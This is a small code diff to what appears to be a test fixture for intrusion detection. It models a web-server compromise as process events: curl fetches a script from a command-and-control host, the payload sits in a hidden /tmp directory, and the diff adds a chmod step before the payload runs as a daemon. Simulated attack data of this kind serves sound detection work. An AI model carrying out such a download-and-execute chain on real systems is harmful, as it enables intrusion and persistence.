@@ -39,6 +39,8 @@ INTRUSION: list[Exec] = [
     Exec(["curl", "-fsSL", f"http://{C2}/s.sh"], ppid=5030, uid=WWW, auid=NOBODY,
          cwd="/var/www/html/uploads"),
     Exec(["mkdir", "-p", "/tmp/.s"], ppid=5030, uid=WWW, auid=NOBODY, cwd="/var/www/html/uploads"),
+    Exec(["chmod", "+x", "/tmp/.s/kw"], ppid=5030, uid=WWW, auid=NOBODY,
+         cwd="/var/www/html/uploads"),
     Exec(["/tmp/.s/kw", "--daemon"], pid=5040, ppid=5030, uid=WWW, auid=NOBODY, cwd="/tmp/.s"),
     Exec(["/bin/sh", "-c", "run-parts --report /etc/cron.hourly"], exe="/usr/bin/dash", ppid=640,
          auid=NOBODY, cwd="/root"),
